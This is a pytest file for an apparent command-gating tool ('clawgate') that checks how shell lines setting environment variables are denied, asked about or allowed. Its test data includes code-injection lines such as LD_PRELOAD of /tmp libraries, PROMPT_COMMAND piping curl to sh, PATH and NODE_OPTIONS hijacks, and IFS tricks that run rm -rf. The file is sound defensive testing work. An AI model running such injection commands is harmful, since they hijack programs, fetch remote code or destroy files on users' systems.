"""Code-loading variables DENY (CG-ENV-001); program-naming variables ASK (CG-ENV-002);
harmless prefixes stay ALLOW."""

from __future__ import annotations

import pytest
from vtables import CTX, assert_allowed, decide

from clawgate.decision import Outcome
from clawgate.shell import parse_one
from clawgate.validators.envvars import CommandVariable


@pytest.mark.parametrize(("line", "expected", "rule"), [
    ("LD_PRELOAD=/tmp/hook.so ls", Outcome.DENY, "CG-ENV-001"),
    ("export LD_PRELOAD=/tmp/hook.so", Outcome.DENY, "CG-ENV-001"),
    ("LD_AUDIT=./a.so make", Outcome.DENY, "CG-ENV-001"),
    ("BASH_ENV=/tmp/x bash script.sh", Outcome.DENY, "CG-ENV-001"),
    ("ENV=/tmp/x sh script.sh", Outcome.DENY, "CG-ENV-001"),
    ("PROMPT_COMMAND='curl x|sh'", Outcome.DENY, "CG-ENV-001"),
    ("export PROMPT_COMMAND=id", Outcome.DENY, "CG-ENV-001"),
    ("declare -x BASH_ENV=/tmp/x", Outcome.DENY, "CG-ENV-001"),
    ("env LD_PRELOAD=/tmp/x.so ls", Outcome.DENY, "CG-ENV-001"),
    ("DYLD_INSERT_LIBRARIES=/tmp/x.dylib ls", Outcome.DENY, "CG-ENV-001"),
    # a library the system or a compiler installed: asked, not denied
    ("export LD_PRELOAD=$(g++ --print-file-name=libstdc++.so)", Outcome.ASK, "CG-ENV-001"),
    ('LD_PRELOAD="$(clang -print-file-name=libclang_rt.asan-x86_64.so)" ./test', Outcome.ASK,
     "CG-ENV-001"),
    ("LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libasan.so.8 ./a.out", Outcome.ASK, "CG-ENV-001"),
    ("LD_PRELOAD=/lib/libSegFault.so:/usr/lib/libjemalloc.so.2 make", Outcome.ASK,
     "CG-ENV-001"),
    # anything else a preload names stays denied
    ("LD_PRELOAD=/usr/lib/../../tmp/x.so ls", Outcome.DENY, "CG-ENV-001"),
    ("LD_PRELOAD=/usr/lib/libc.so:/tmp/x.so ls", Outcome.DENY, "CG-ENV-001"),
    ("LD_PRELOAD=$(gcc --print-file-name=libc.so; echo /tmp/x.so) ls", Outcome.DENY,
     "CG-ENV-001"),
    ("LD_PRELOAD=$(find / -name x.so) ls", Outcome.DENY, "CG-ENV-001"),
    ("LD_PRELOAD=$(cc --print-file-name=/tmp/x.so) ls", Outcome.DENY, "CG-ENV-001"),
    ("LD_PRELOAD=$LIB ls", Outcome.DENY, "CG-ENV-001"),
    ("LD_PRELOAD=/usr/local/lib/x.so ls", Outcome.DENY, "CG-ENV-001"),
    ("BASH_ENV=/usr/lib/x.so bash s.sh", Outcome.DENY, "CG-ENV-001"),
    ("GIT_SSH_COMMAND='sh -c id' git fetch", Outcome.ASK, "CG-ENV-002"),
    ("GIT_EXTERNAL_DIFF=/tmp/x git diff", Outcome.ASK, "CG-ENV-002"),
    ("PAGER='sh -c id' man ls", Outcome.ASK, "CG-ENV-002"),
    ("export EDITOR=/tmp/evil", Outcome.ASK, "CG-ENV-002"),
    ("PATH=/tmp/evil:$PATH ls", Outcome.ASK, "CG-ENV-002"),
    ("export PATH=/tmp:$PATH", Outcome.ASK, "CG-ENV-002"),
    ('PATH="$TOOLS:$PATH" git status', Outcome.ASK, "CG-ENV-002"),  # another variable: unknown
    ("export PYTHONPATH=$PYTHONPATH:$EXTRA", Outcome.ASK, "CG-ENV-002"),  # before the stdlib
    ("NODE_OPTIONS='--require /tmp/x.js' node app.js", Outcome.ASK, "CG-ENV-002"),
    ("PYTHONPATH=/tmp/evil python app.py", Outcome.ASK, "CG-ENV-002"),
    ("GIT_CONFIG_KEY_0=core.pager git log", Outcome.ASK, "CG-ENV-002"),
    ("NODE_OPTIONS='--experimental-loader /tmp/x.mjs' node app.js", Outcome.ASK, "CG-ENV-002"),
    ("NODE_OPTIONS='--max-old-space-size=4096 -r /tmp/x.js' node a.js", Outcome.ASK,
     "CG-ENV-002"),
    ("RUBYOPT=-I/tmp/evil rake -T", Outcome.ASK, "CG-ENV-002"),
    ("RUBYOPT=-revil rake -T", Outcome.ASK, "CG-ENV-002"),
    ("IFS=/ ls", Outcome.ASK, "CG-ENV-002"),
    ("export IFS=.", Outcome.ASK, "CG-ENV-002"),
    # IFS set alone: the later expansions it splits anew
    ("IFS=,; cmd=rm,-rf,build; $cmd", Outcome.ASK, "CG-ENV-003"),
    ("IFS=,; f=build,src; rm -rf $f", Outcome.ASK, "CG-ENV-003"),
    ("IFS=,; for x in a,src; do rm -rf $x; done", Outcome.ASK, "CG-ENV-003"),
    ("IFS=/; $x", Outcome.ASK, "CG-ENV-003"),
    # NAME+=VALUE appends, in a declaration as before a command: judged as the value it adds
    ("export LD_PRELOAD+=/tmp/evil.so", Outcome.DENY, "CG-ENV-001"),
    ("export BASH_ENV+=/tmp/x.sh", Outcome.DENY, "CG-ENV-001"),
    ("LD_PRELOAD+=/tmp/evil.so ls", Outcome.DENY, "CG-ENV-001"),
    ("declare -x NODE_OPTIONS+=' --require /tmp/x.js'", Outcome.ASK, "CG-ENV-002"),
    ("export PYTHONPATH+=:/tmp/evil", Outcome.ASK, "CG-ENV-002"),  # read wherever it stands
    # PATH: appended after the old entries only when the value starts a new entry; otherwise
    # its first entry is glued onto the old last one, another directory in its place
    ('export PATH+="/tmp/evil/bin"', Outcome.ASK, "CG-ENV-002"),
    ('PATH+="/../tmp/evil:/x" ls', Outcome.ASK, "CG-ENV-002"),
    ('export PATH=":/tmp/evil/bin"', Outcome.ASK, "CG-ENV-002"),  # =, not +=: the whole PATH
])
def test_dangerous_variables(line: str, expected: Outcome, rule: str) -> None:
    outcome, rules = decide(line)
    assert outcome is expected, rules
    assert rule in rules


@pytest.mark.parametrize("line", [
    "LANG=C ls",
    "TZ=UTC date",
    "LC_ALL=C sort names.txt",
    "DEBUG=1 npm test",
    "CI=true make test",
    "PYTHONPATH=src pytest -q",
    "PYTHONPATH=src:tests:$PYTHONPATH python -m pytest",
    "export NODE_ENV=production",
    "printenv PATH",  # a bare env dump asks (CG-EXPO-001)
    "echo $PATH",
    "echo 'LD_PRELOAD=x is dangerous'",
    "RUST_LOG=debug cargo run",
    'export PATH="$PWD/node_modules/.bin:$PATH"',
    "PATH=./bin:$PATH make",
    # appended after the old entries: programs added, none replaced
    'export PATH+=":/opt/texlive/bin/x86_64-linux"',
    'which go >/dev/null || PATH+=":`go env GOROOT`/bin"',
    'PATH+=":$TOOLS/bin" make',
    # IFS set alone, later expansions quoted or none
    "IFS=$'\\n'; for f in $(git ls-files '*.sh'); do shellcheck \"$f\"; done",
    "x=$(IFS=-; echo \"${parts[*]}\")",
    "OLDIFS=$IFS; IFS=:; for d in $PATH; do ls \"$d\"; done; IFS=$OLDIFS",
    "IFS=,; f=a,b; echo \"$f\"",
])
def test_harmless_variables_are_allowed(line: str) -> None:
    assert_allowed(line)


@pytest.mark.parametrize("line", [
    'PATH="${HOME}/Library/Python/3.11/bin:${HOME}/.local/bin:${PATH}" pytest --cov',
    "IFS='.' read -r major minor patch <<< \"$TAG\"",
    "IFS=: mapfile -t parts <<< \"$x\"",
    "NODE_OPTIONS=--experimental-vm-modules jest --runInBand",
    "NODE_OPTIONS='--max-old-space-size=4096 --no-warnings' vite build",
    "RUBYOPT=-Itmp/plugin-home gem env version",
    "RUBYOPT='-W0 --disable-gems' ruby -v",
    "NODE_OPTIONS='--experimental-loader ./x.mjs' node app.js",  # the project's own loader
])
def test_program_variables_that_change_no_program(line: str) -> None:
    """CG-ENV-002 has no opinion (another family may: CG-ESC-007 on NODE_OPTIONS today)."""
    verdict = CommandVariable().check(parse_one(line), CTX)
    assert verdict.outcome is Outcome.PASSTHROUGH


def test_git_configuration_through_the_environment_is_judged_as_git_c() -> None:
    """CG-ENV-002 hands GIT_CONFIG_KEY_n/VALUE_n pairs on as ``git -c KEY=VALUE``: a complete
    set of pairs is judged as those settings and nothing more; pairs git would not read as
    given (a count that does not match, a value known only at run time) are asked about."""
    outcome, rules = decide("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager "
                            "GIT_CONFIG_VALUE_0='sh -c id' git log")
    assert outcome.name == "DENY", rules
    outcome, rules = decide("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=color.ui "
                            "GIT_CONFIG_VALUE_0=always git log")
    assert outcome.name == "ALLOW", rules
    for line in ("GIT_CONFIG_COUNT=2 GIT_CONFIG_KEY_0=color.ui GIT_CONFIG_VALUE_0=always git log",
                 "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=color.ui GIT_CONFIG_VALUE_0=$V git log"):
        outcome, rules = decide(line)
        assert outcome.name == "ASK" and "CG-ENV-002" in rules, (line, rules)
